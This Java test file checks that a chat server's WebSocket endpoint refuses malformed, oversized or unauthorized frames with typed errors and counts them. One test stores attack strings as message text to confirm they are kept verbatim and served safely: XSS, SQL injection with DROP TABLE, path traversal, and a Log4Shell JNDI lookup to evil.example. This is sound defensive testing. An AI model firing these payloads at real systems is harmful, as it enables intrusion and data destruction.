package io.kefu.server.security;

import static org.assertj.core.api.Assertions.assertThat;

import io.kefu.protocol.v1.ClientFrame;
import io.kefu.protocol.v1.ErrorCode;
import io.kefu.protocol.v1.Hello;
import io.kefu.protocol.v1.ServerFrame;
import io.kefu.server.app.Person;
import io.kefu.server.app.WholeServer;
import io.kefu.server.testing.RawFrame;
import io.kefu.server.testing.RawWebSocket;
import io.kefu.server.testing.TestClient;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** Each bad frame gets the protocol's typed answer, is counted, and harms no other connection. */
class BadFramesTest {

    private static final String LONG = "x".repeat(10_000);

    @TempDir
    private static Path directory;

    private static WholeServer server;
    private static Person bystander;

    @BeforeAll
    static void start() {
        server = WholeServer.in(directory)
                .edit(
                        "server.yaml",
                        "visitor: {messagesPerSecond: 1000, burst: 10000}",
                        "visitor: {messagesPerSecond: 1, burst: 40}")
                .start();
        bystander = server.visitor();
    }

    @AfterAll
    static void stop() {
        server.close();
    }

    @AfterEach
    void others_are_not_harmed() {
        bystander.roundTrip();
        TestClient next = TestClient.json(server.port());
        server.person(next, bystander.token()).roundTrip();
        next.close();
    }

    static List<Arguments> refused() {
        return List.of(
                Arguments.of("an unknown kind", "{\"dance\": {}}", "bad_request"),
                Arguments.of(
                        "an unknown message type",
                        send("\"message_type\": \"dance\", \"text\": \"x\""),
                        "unsupported_type"),
                Arguments.of("no message type", send("\"text\": \"x\""), "unsupported_type"),
                Arguments.of("no id", "{\"send\": {\"message_type\": \"text\", \"text\": \"x\"}}", "bad_request"),
                Arguments.of(
                        "an id of 10 kB",
                        "{\"send\": {\"client_msg_id\": \"" + LONG
                                + "\", \"message_type\": \"text\", \"text\": \"x\"}}",
                        "bad_request"),
                Arguments.of("another's id of 10 kB", text("\"conversation_id\": \"" + LONG + "\""), "not_found"),
                Arguments.of("a group's ledger", text("\"conversation_id\": \"group:support\""), "not_found"),
                Arguments.of("a path", text("\"conversation_id\": \"../../journal.db\""), "not_found"),
                Arguments.of("control characters", text("\"conversation_id\": \"\\u0000\\u0007\""), "not_found"),
                Arguments.of("no text", send("\"message_type\": \"text\", \"text\": \" \\n\\t\""), "bad_request"),
                Arguments.of(
                        "a text too long", send("\"message_type\": \"text\", \"text\": \"" + LONG + "\""), "too_large"),
                Arguments.of("a negative reference", text("\"reply_to_seq\": -1"), "bad_request"),
                Arguments.of("a reference to nothing", text("\"reply_to_seq\": 9223372036854775807"), "bad_request"),
                Arguments.of("a note of a visitor's", text("\"private\": true"), "forbidden"),
                Arguments.of(
                        "a card of a visitor's",
                        send("\"message_type\": \"card\", \"card\": {\"title\": \"x\"}"),
                        "forbidden"),
                Arguments.of(
                        "a file of nobody's",
                        send("\"message_type\": \"file\", \"file\": {\"file_id\": \"f\"}"),
                        "not_found"),
                Arguments.of("a recall of nothing", send("\"message_type\": \"recall\""), "bad_request"),
                Arguments.of("an edit of nothing", send("\"message_type\": \"edit\", \"text\": \"x\""), "bad_request"),
                Arguments.of("an event without a name", send("\"message_type\": \"event\""), "bad_request"),
                Arguments.of(
                        "an event's long name",
                        send("\"message_type\": \"event\", \"event\": {\"name\": \"" + LONG + "\"}"),
                        "bad_request"),
                Arguments.of("a negative mark", "{\"read\": {\"conversation_id\": \"c\", \"seq\": -5}}", "bad_request"),
                Arguments.of("another's mark", "{\"read\": {\"conversation_id\": \"c\", \"seq\": 1}}", "not_found"),
                Arguments.of(
                        "a long preview",
                        "{\"typing\": {\"conversation_id\": \"c\", \"preview\": \"" + LONG + "\"}}",
                        "bad_request"),
                Arguments.of("a second hello", "{\"hello\": {\"token\": \"x\"}}", "bad_request"),
                Arguments.of(
                        "null everywhere",
                        "{\"send\": {\"client_msg_id\": null, \"conversation_id\": null, \"message_type\": null,"
                                + " \"text\": null, \"file\": null, \"card\": null, \"event\": null, \"target_seq\": null,"
                                + " \"reply_to_seq\": null, \"private\": null}}",
                        "bad_request"));
    }

    private static String send(String fields) {
        return "{\"send\": {\"client_msg_id\": \"1\", " + fields + "}}";
    }

    private static String text(String field) {
        return send("\"message_type\": \"text\", \"text\": \"x\", " + field);
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("refused")
    void what_is_a_frame_but_may_not_be_is_refused_and_the_socket_stays_open(String what, String frame, String code)
            throws IOException {
        double before = counted("kefu_errors_total", "code=\"" + code + "\",entrance=\"socket\"");
        try (RawWebSocket socket = greeted("kefu.v1.json")) {
            socket.send(RawFrame.text(frame));
            String answer = answer(socket);
            assertThat(answer).as(what).contains("\"error\"").contains("\"code\":\"" + code + "\"");
            socket.send(RawFrame.text("{\"ping\": {\"nonce\": \"still\"}}"));
            assertThat(answer(socket)).isEqualTo("{\"pong\":{\"nonce\":\"still\"}}");
        }
        assertThat(counted("kefu_errors_total", "code=\"" + code + "\",entrance=\"socket\""))
                .isGreaterThan(before);
    }

    static List<Arguments> closed() {
        String deep = "{\"send\": {\"event\": {\"data\": " + "{\"a\":".repeat(5_000) + "1" + "}".repeat(5_002) + "}";
        return List.of(
                Arguments.of("no JSON", RawFrame.text("hello"), 4400),
                Arguments.of("half a frame", RawFrame.text("{\"ping\": {"), 4400),
                Arguments.of("two frames", RawFrame.text("{\"ping\": {}}{\"ping\": {}}"), 4400),
                Arguments.of("two kinds", RawFrame.text("{\"ping\": {}, \"typing\": {}}"), 4400),
                Arguments.of("a list", RawFrame.text("[{\"ping\": {}}]"), 4400),
                Arguments.of("nothing", RawFrame.text(""), 4400),
                Arguments.of("null", RawFrame.text("null"), 4400),
                Arguments.of("a wrong type", RawFrame.text("{\"read\": {\"seq\": \"many\"}}"), 4400),
                Arguments.of("a number too large", RawFrame.text("{\"read\": {\"seq\": 1e999}}"), 4400),
                Arguments.of("a long number", RawFrame.text("{\"read\": {\"seq\": " + "9".repeat(5_000) + "}}"), 4400),
                Arguments.of("depth", RawFrame.text(deep), 4400),
                Arguments.of("bad UTF-8", RawFrame.of(1, new byte[] {'{', (byte) 0xC3, (byte) 0x28, '}'}), 1007),
                Arguments.of("a binary frame", RawFrame.binary(new byte[] {1, 2, 3}), 1003),
                Arguments.of(
                        "an unmasked frame", RawFrame.text("{\"ping\": {}}").unmasked(), 1002),
                Arguments.of("a reserved bit", RawFrame.text("{\"ping\": {}}").reservedBit(0x40), 1002),
                Arguments.of("an unknown opcode", RawFrame.of(0x3, new byte[0]), 1002),
                Arguments.of("more than a frame may have", RawFrame.text("{" + " ".repeat(200_000) + "}"), 1009),
                Arguments.of("10 MB", RawFrame.text("x".repeat(10_000_000)), 1009));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("closed")
    void what_is_no_frame_closes_the_connection_with_its_code(String what, RawFrame frame, int code)
            throws IOException {
        double before = counted("kefu_bad_frames_total", "");
        try (RawWebSocket socket = greeted("kefu.v1.json")) {
            try {
                socket.send(frame);
            } catch (IOException e) {
                // The server need not read all of what is too large.
            }
            assertThat(socket.readClose()).as(what).isEqualTo(code);
        }
        assertThat(counted("kefu_bad_frames_total", "")).isGreaterThan(before);
    }

    @Test
    void protobuf_that_is_none_closes_too() throws IOException {
        for (byte[] payload : List.of(new byte[] {(byte) 0xFF, (byte) 0xFF}, new byte[0], new byte[] {0x0A, 0x7F})) {
            try (RawWebSocket socket = greeted("kefu.v1.proto")) {
                socket.send(RawFrame.binary(payload));
                assertThat(socket.readClose()).isEqualTo(4400);
            }
        }
    }

    @Test
    void unknown_fields_are_left_out_and_counted() throws IOException {
        double before = counted("kefu_unknown_fields_total", "");
        try (RawWebSocket socket = greeted("kefu.v1.json")) {
            socket.send(RawFrame.text("{\"ping\": {\"nonce\": \"1\", \"later\": [{\"x\": 1}], \"more\": null}}"));
            assertThat(answer(socket)).isEqualTo("{\"pong\":{\"nonce\":\"1\"}}");
        }
        assertThat(counted("kefu_unknown_fields_total", "")).isEqualTo(before + 2);
    }

    @Test
    void nothing_is_heard_before_hello_and_hello_is_not_waited_for_for_ever() throws IOException {
        try (RawWebSocket silent = RawWebSocket.open(server.port(), "kefu.v1.json");
                RawWebSocket hasty = RawWebSocket.open(server.port(), "kefu.v1.json")) {
            hasty.send(RawFrame.text(text("\"conversation_id\": \"\"")));
            assertThat(hasty.readSkippingPings().text()).contains("\"unauthenticated\"");
            assertThat(hasty.readClose()).isEqualTo(4408);
            assertThat(silent.readClose()).isEqualTo(4408);
        }
        assertThat(counted("kefu_connection_closed_total", "code=\"4408\"")).isGreaterThanOrEqualTo(2);
    }

    @Test
    void who_sends_too_fast_is_told_when_to_go_on() {
        Person fast = server.visitor();
        for (int i = 0; i < 60; i++) {
            fast.client()
                    .send(ClientFrame.newBuilder()
                            .setSend(Person.text("", "flood " + i).setClientMsgId("f" + i))
                            .build());
        }
        var error = fast.sees(ServerFrame::hasError).getError();
        assertThat(error.getCode()).isEqualTo(ErrorCode.ERROR_CODE_RATE_LIMITED);
        assertThat(error.getRetryAfterMs()).isBetween(1L, 2_000L);
        assertThat(error.getClientMsgId()).startsWith("f");
        assertThat(counted("kefu_rate_limited_total", "")).isPositive();
        fast.close();
    }

    @Test
    void words_are_kept_as_they_were_written_and_leave_as_json_only() {
        Person visitor = server.visitor();
        for (String words : List.of(
                "<script>alert(1)</script><img src=x onerror=alert(1)>",
                "nul \u0000 bell \u0007 escape \u001b[31m",
                "\u202eright to left\u202c \u200b \ufeff",
                "' OR 1=1; DROP TABLE messages; --",
                "👩‍👩‍👧‍👦 𠮷野家 é",
                "${jndi:ldap://evil.example/a} {{7*7}} %s%n")) {
            var ack = visitor.say(words);
            var answer = visitor.http().get("/api/v1/conversations/" + ack.getConversationId() + "/messages?limit=200");
            assertThat(answer.json().path("items").findValuesAsString("text")).contains(words);
            assertThat(answer.header("content-type")).startsWith("application/json");
            assertThat(answer.header("x-content-type-options")).isEqualTo("nosniff");
        }
        visitor.close();
    }

    @Test
    void half_a_character_does_not_break_a_conversation() throws IOException {
        try (RawWebSocket socket = greeted("kefu.v1.json")) {
            socket.send(RawFrame.text(send("\"message_type\": \"text\", \"text\": \"half \\ud83d emoji\"")));
            String answer = answer(socket);
            assertThat(answer).containsAnyOf("\"ack\"", "\"bad_request\"", "4400");
        }
    }

    private static RawWebSocket greeted(String subprotocol) throws IOException {
        String token = server.anonymous().path("token").asString();
        RawWebSocket socket = RawWebSocket.open(server.port(), subprotocol);
        if (subprotocol.endsWith("json")) {
            socket.send(RawFrame.text("{\"hello\": {\"token\": \"" + token + "\"}}"));
        } else {
            socket.send(RawFrame.binary(ClientFrame.newBuilder()
                    .setHello(Hello.newBuilder().setToken(token))
                    .build()
                    .toByteArray()));
        }
        socket.readSkippingPings();
        return socket;
    }

    /** The next text; or the close code. */
    private static String answer(RawWebSocket socket) throws IOException {
        RawWebSocket.Received received = socket.readSkippingPings();
        return received.opcode() == 0x8 ? String.valueOf(received.closeCode()) : received.text();
    }

    /** The sum of a counter's series that have this label. */
    private static double counted(String name, String label) {
        Matcher line = Pattern.compile("(?m)^" + name + "(\\{[^}]*})? (\\S+)$")
                .matcher(new String(server.admin().get("/metrics").bytes(), StandardCharsets.UTF_8));
        double sum = 0;
        while (line.find()) {
            if (label.isEmpty() || String.valueOf(line.group(1)).contains(label)) {
                sum += Double.parseDouble(line.group(2));
            }
        }
        return sum;
    }
}
